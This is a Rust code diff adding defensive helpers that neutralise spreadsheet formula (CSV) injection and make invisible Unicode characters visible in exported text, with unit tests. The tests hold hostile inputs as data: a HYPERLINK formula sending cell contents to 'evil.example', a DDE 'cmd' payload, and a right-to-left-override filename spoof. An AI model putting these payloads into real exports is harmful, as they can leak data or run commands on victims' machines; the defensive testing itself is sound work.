@@ -20,9 +20,92 @@ pub fn excerpt(text: &str) -> String {
     )
 }
 
+/// A character a person cannot see but a screen acts on: the C0 and C1 controls,
+/// DEL, and Unicode's bidirectional and zero-width formatting characters (U+061C,
+/// U+200B–U+200F, U+202A–U+202E, U+2060–U+2064, U+2066–U+2069, U+FEFF).
+pub fn is_invisible(c: char) -> bool {
+    c.is_control()
+        || matches!(
+            c,
+            '\u{061C}'
+                | '\u{200B}'..='\u{200F}'
+                | '\u{202A}'..='\u{202E}'
+                | '\u{2060}'..='\u{2064}'
+                | '\u{2066}'..='\u{2069}'
+                | '\u{FEFF}'
+        )
+}
+
+/// `text` with each invisible character (`is_invisible`) shown as `[U+202E]`, for
+/// downloads: an id like "\u{202E}gpj.exe" must not read as "exe.jpg" in a
+/// spreadsheet. (The API's JSON keeps the raw value.)
+pub fn show_invisible(text: &str) -> std::borrow::Cow<'_, str> {
+    if !text.chars().any(is_invisible) {
+        return std::borrow::Cow::Borrowed(text);
+    }
+    let mut shown = String::with_capacity(text.len() + 16);
+    for c in text.chars() {
+        if is_invisible(c) {
+            shown.push_str(&format!("[U+{:04X}]", u32::from(c)));
+        } else {
+            shown.push(c);
+        }
+    }
+    std::borrow::Cow::Owned(shown)
+}
+
+/// The characters that make a spreadsheet read a cell as a formula (OWASP, "CSV
+/// injection"), and the quote that marks a neutralised cell.
+const FORMULA_STARTS: [char; 7] = ['=', '+', '-', '@', '\t', '\r', '\''];
+
+/// A text cell of a CSV as a spreadsheet may safely open it: invisible characters
+/// shown (`show_invisible`), and a cell that starts with `=`, `+`, `-`, `@`, a tab or
+/// a carriage return prefixed with `'`, which spreadsheets take as "this is text".
+/// A cell that starts with `'` gets one too, so the rule reads back without doubt:
+/// a leading `'` was added, and removing exactly one gives the value.
+pub fn spreadsheet_text(text: &str) -> std::borrow::Cow<'_, str> {
+    let shown = show_invisible(text);
+    if shown.starts_with(FORMULA_STARTS) {
+        std::borrow::Cow::Owned(format!("'{shown}"))
+    } else {
+        shown
+    }
+}
+
 #[cfg(test)]
 mod tests {
     use super::*;
+
+    #[test]
+    fn formulas_are_neutralised_and_the_value_reads_back() {
+        for raw in [
+            "=HYPERLINK(\"http://evil.example/?x=\"&A2,\"Click\")",
+            "=cmd|' /C calc'!A0",
+            "+1",
+            "-2+3",
+            "@SUM(A1)",
+            "'=1+1",
+        ] {
+            let safe = spreadsheet_text(raw);
+            assert!(safe.starts_with('\''), "{raw}");
+            assert_eq!(&safe[1..], raw, "one leading quote comes off");
+        }
+        assert_eq!(spreadsheet_text("r1-=x"), "r1-=x");
+        assert_eq!(spreadsheet_text(" WhatsApp "), " WhatsApp ");
+        // A tab or carriage return is shown, so it can no longer start a formula.
+        assert_eq!(spreadsheet_text("\t=1+1"), "[U+0009]=1+1");
+    }
+
+    #[test]
+    fn invisible_characters_are_shown() {
+        assert_eq!(show_invisible("\u{202E}gpj.exe"), "[U+202E]gpj.exe");
+        assert_eq!(show_invisible("a\u{0}b\u{200B}"), "a[U+0000]b[U+200B]");
+        assert!(matches!(
+            show_invisible("8f14e45f-ceea"),
+            std::borrow::Cow::Borrowed(_)
+        ));
+        assert_eq!(show_invisible("Selesai é 日本"), "Selesai é 日本");
+    }
 
     #[test]
     fn long_text_is_cut_on_a_character_boundary() {
